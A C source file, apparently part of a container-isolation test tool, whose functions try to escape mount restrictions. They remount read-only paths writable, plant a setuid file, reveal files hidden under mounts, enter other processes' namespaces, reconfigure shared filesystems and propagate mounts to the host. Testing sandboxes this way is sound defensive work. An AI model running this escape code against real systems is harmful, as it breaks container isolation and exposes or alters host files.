// SPDX-License-Identifier: MIT
/* Attacks on the container's mounts: their flags, and the files below them. */
#include "attack.h"

#include <linux/mount.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

/* <sys/mount.h> conflicts with <linux/mount.h>. */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
	  const void *data);
int umount2(const char *target, int flags);
#define DETACH 2

static int set_attr(int fd, unsigned int flags, struct mount_attr *attr)
{
	return (int)syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH | flags, attr, sizeof(*attr));
}

/* Tries each call of the kernel: mount(2), mount_setattr(2), and a copy that is attached elsewhere. */
static void loosen(const char *path)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV |
					       MOUNT_ATTR_NOEXEC },
			  one = attr;
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		printf("remounted %s\n", path);
	if (set_attr(fd, 0, &attr) == 0)
		printf("cleared all flags of %s\n", path);
	for (unsigned int bit = 1; bit <= MOUNT_ATTR_NOEXEC; bit <<= 1) {
		one.attr_clr = bit;
		if (set_attr(fd, AT_RECURSIVE, &one) == 0)
			printf("cleared flag %u of %s\n", bit, path);
	}
	close(fd);
}

static void write_in(const char *directory)
{
	char path[4096];
	int fd;

	snprintf(path, sizeof(path), "%s/file", directory);
	fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, "overwritten\n", 12) == 12)
			printf("overwrote %s\n", path);
		close(fd);
	}
	snprintf(path, sizeof(path), "%s/planted", directory);
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	if (fd < 0)
		return;
	printf("planted %s\n", path);
	fchmod(fd, 04755);
	close(fd);
}

static void loosen_copy(const char *path)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID |
					       MOUNT_ATTR_NODEV };
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	mkdir("/tmp/copy", 0755);
	if (tree < 0)
		return;
	if (set_attr(tree, 0, &attr) == 0)
		printf("cleared all flags of a copy of %s\n", path);
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp/copy", MOVE_MOUNT_F_EMPTY_PATH) == 0)
		loosen("/tmp/copy");
	write_in("/tmp/copy");
	umount2("/tmp/copy", DETACH);
	close(tree);
}

static void try_all(const char *path)
{
	loosen(path);
	write_in(path);
	loosen_copy(path);
	if (mount(path, "/tmp/copy", NULL, MS_BIND, NULL) == 0) {
		loosen("/tmp/copy");
		write_in("/tmp/copy");
	}
}

/* Tries to make the read-only mounts of ARGS writable. */
void attack_remount(char **args)
{
	for (char **path = args; *path; path++)
		try_all(*path);
	if (unshare(CLONE_NEWNS) == 0)
		for (char **path = args; *path; path++)
			try_all(*path);
}

/* ---- files below mounts ---- */

static void look_below(const char *path)
{
	char secret[8192];

	snprintf(secret, sizeof(secret), "%s/below", path);
	print_file(AT_FDCWD, secret, "from below");
}

static void move_away(const char *path)
{
	mkdir("/tmp/away", 0755);
	if (mount(path, "/tmp/away", NULL, MS_MOVE, NULL) == 0)
		printf("moved %s away\n", path);
	look_below(path);
	if (syscall(SYS_move_mount, AT_FDCWD, path, AT_FDCWD, "/tmp/away", 0) == 0)
		printf("moved %s away\n", path);
	look_below(path);
}

/* Copies the mount around it, without the mounts on that. */
static void copy_around(const char *path)
{
	char parent[4096], inside[4352];
	char *slash;

	snprintf(parent, sizeof(parent), "%s", path);
	slash = strrchr(parent, '/');
	if (!slash)
		return;
	snprintf(inside, sizeof(inside), "/tmp/around%s", slash);
	*slash = '\0';
	mkdir("/tmp/around", 0755);
	if (mount(*parent ? parent : "/", "/tmp/around", NULL, MS_BIND, NULL) == 0)
		look_below(inside);
	umount2("/tmp/around", DETACH);
}

/* Mounts an overlay, which shows a directory without the mounts in it. */
static void overlay_around(const char *path)
{
	char options[8192], inside[4352], parent[4096];
	char *slash;

	snprintf(parent, sizeof(parent), "%s", path);
	slash = strrchr(parent, '/');
	if (!slash)
		return;
	snprintf(inside, sizeof(inside), "/tmp/overlay%s", slash);
	*slash = '\0';
	mkdir("/tmp/overlay", 0755);
	mkdir("/tmp/empty", 0755);
	snprintf(options, sizeof(options), "lowerdir=%s:/tmp/empty", *parent ? parent : "/");
	if (mount("overlay", "/tmp/overlay", "overlay", 0, options) == 0)
		look_below(inside);
	umount2("/tmp/overlay", DETACH);
}

static void clone_around(const char *path)
{
	const char *slash = strrchr(path, '/');
	char parent[4096], secret[4352];
	int tree;

	if (!slash)
		return;
	snprintf(parent, sizeof(parent), "%.*s", slash == path ? 1 : (int)(slash - path), path);
	snprintf(secret, sizeof(secret), "%s/below", slash + 1);
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, parent, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (tree < 0)
		return;
	print_file(tree, secret, "from a copy");
	close(tree);
}

static void uncover(const char *path)
{
	copy_around(path);
	overlay_around(path);
	clone_around(path);
	for (int i = 0; i < 3; i++) {
		if (umount2(path, DETACH) == 0)
			printf("unmounted %s\n", path);
		else
			break;
		look_below(path);
	}
	move_away(path);
}

static char **covered;

static void uncover_all(void)
{
	for (char **path = covered; *path; path++)
		uncover(*path);
}

/* Tries it in the namespaces of another process, where the mounts may not be locked. */
static void uncover_in(pid_t pid)
{
	static const char *const types[] = { "user", "mnt" };
	pid_t child = fork();
	char path[64];

	for (size_t i = 0; i < 2 && child == 0; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, types[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && setns(fd, 0) == 0)
			printf("entered %s\n", path);
	}
	if (child == 0) {
		uncover_all();
		look_in("/");
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void uncover_in_new(int namespaces)
{
	pid_t child = fork();

	if (child == 0) {
		if (unshare(namespaces) == 0)
			uncover_all();
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

/* ARGS are mounts that cover a file `below`. */
void attack_uncover(char **args)
{
	covered = args;
	uncover_in_new(CLONE_NEWNS);
	uncover_in_new(CLONE_NEWUSER | CLONE_NEWNS);
	each_process(uncover_in);
	uncover_all();
	look_in("/");
}

/* ---- filesystems ---- */

/* Changes the options of the filesystem itself, which all its mounts share. */
static void reconfigure(const char *path)
{
	int fs = (int)syscall(SYS_fspick, AT_FDCWD, path, FSPICK_CLOEXEC);

	if (fs >= 0 && syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "ro", NULL, 0) == 0 &&
	    syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) == 0)
		printf("reconfigured %s\n", path);
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0)
		printf("reconfigured %s\n", path);
	if (fs >= 0)
		close(fs);
}

void attack_superblock(char **args)
{
	for (; *args; args++)
		reconfigure(*args);
}

/* Mounts at ARGS. If they are shared, the mount propagates to the host. */
void attack_mount_on(char **args)
{
	for (; *args; args++) {
		if (mount("planted", *args, "tmpfs", 0, NULL) < 0)
			printf("mount on %s: %s\n", *args, strerror(errno));
		mount(NULL, *args, NULL, MS_SHARED | MS_REC, NULL);
	}
}
